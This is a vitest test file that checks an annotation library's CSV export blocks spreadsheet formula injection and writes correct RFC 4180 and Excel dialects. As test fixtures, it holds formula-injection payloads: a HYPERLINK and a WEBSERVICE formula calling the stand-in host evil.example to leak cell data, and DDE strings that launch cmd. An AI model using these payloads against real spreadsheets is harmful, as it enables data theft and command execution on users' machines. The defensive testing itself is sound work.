import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startLibrary, type LibraryHandle } from '../../src/core/host';
import type { ArticleId } from '../../src/shared/api';
import { ROOT, tempDir } from '../support/temp';

/**
 * The annotations CSV as a spreadsheet reads it: nothing an article or a note says may run as
 * a formula, and the Excel dialect (semicolons, BOM) keeps umlauts and columns intact.
 */

const tmp = tempDir();
let lib: LibraryHandle;
let id: ArticleId;
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

beforeAll(async () => {
  lib = await startLibrary({ path: join(tmp.dir, 'lib.sqlite'), seedDir: null, host: 'test', version: '0.0.0' });
  const text = `=WEBSERVICE("http://evil.example/")\n\nÜber die Straße: ein Bericht; mit Semikolon, Komma und "Anführung".\n\n${HOSTILE.map((_, i) => `Absatz ${i}.`).join('\n\n')}`;
  const report = await lib.api.ingestText({ text, name: '=cmd.txt' });
  id = report.added[0]!.articleId;
  const article = await lib.api.getArticle(id);
  const at = article.text.indexOf('Über die Straße');
  for (const [i, note] of HOSTILE.entries()) {
    await lib.api.addAnnotation({ articleId: id, start: at + i, end: at + i + 10, color: 'yellow', note, tags: [i === 0 ? '=tag' : 'ok'] });
  }
});
afterAll(async () => {
  await lib.close();
  tmp.cleanup();
});

/** Splits CSV text into rows of fields (RFC 4180 quoting), as a spreadsheet does. */
function parseCsv(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === sep) row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else cell += c;
  }
  return rows;
}

describe('CSV export', () => {
  it('never starts a cell with a formula character, wherever the text came from', async () => {
    for (const excel of [false, true]) {
      const { content } = await lib.api.exportAnnotations({ format: 'csv', excel });
      const rows = parseCsv(content.replace(/^\uFEFF/, ''), excel ? ';' : ',');
      expect(rows.length).toBe(HOSTILE.length + 1);
      for (const row of rows) {
        expect(row.length).toBe(rows[0]!.length);
        for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      // The text is kept, behind the apostrophe that makes it text.
      const notes = rows.slice(1).map((r) => r[7]);
      expect(notes).toEqual(expect.arrayContaining(HOSTILE.map((h) => `'${h}`)));
    }
  });

  it('is RFC 4180 by default: commas, no BOM', async () => {
    const { content } = await lib.api.exportAnnotations({ format: 'csv' });
    expect(content.charCodeAt(0)).not.toBe(0xfeff);
    expect(content.split('\r\n')[0]).toMatch(/^annotation_id,article_id,/);
  });

  it('for Excel: a BOM, semicolons, and the umlauts of the quote intact', async () => {
    const { content } = await lib.api.exportAnnotations({ format: 'csv', excel: true });
    expect(content.charCodeAt(0)).toBe(0xfeff);
    const rows = parseCsv(content.slice(1), ';');
    expect(rows[0]![0]).toBe('annotation_id');
    expect(rows[0]).toHaveLength(14);
    expect(rows.slice(1).map((r) => r[6]).join(' ')).toContain('Über die');
  });

  it('from the CLI: --excel, or a German LANG, writes the Excel dialect; bytes start EF BB BF', () => {
    const library = join(tmp.dir, 'cli.sqlite');
    const run = (args: string[], env: NodeJS.ProcessEnv = {}) =>
      spawnSync(process.execPath, [join(ROOT, 'bin/parallax.mjs'), ...args, '--library', library], { encoding: 'utf8', env: { ...process.env, LANG: 'C.UTF-8', LC_ALL: '', LC_MESSAGES: '', ...env } });
    expect(run(['list']).status).toBe(0);
    const out = (name: string) => join(tmp.dir, name);
    expect(run(['annotations', 'export', '--format', 'csv', '--out', out('plain.csv')]).status).toBe(0);
    expect(run(['annotations', 'export', '--format', 'csv', '--excel', '--out', out('excel.csv')]).status).toBe(0);
    expect(run(['annotations', 'export', '--format', 'csv', '--out', out('de.csv')], { LANG: 'de_DE.UTF-8' }).status).toBe(0);
    expect([...readFileSync(out('plain.csv')).subarray(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
    expect(readFileSync(out('plain.csv'), 'utf8')).toMatch(/^annotation_id,/);
    for (const f of ['excel.csv', 'de.csv']) {
      const bytes = readFileSync(out(f));
      expect([...bytes.subarray(0, 3)], f).toEqual([0xef, 0xbb, 0xbf]);
      expect(bytes.subarray(3).toString('utf8'), f).toMatch(/^annotation_id;article_id;/);
    }
  });
});
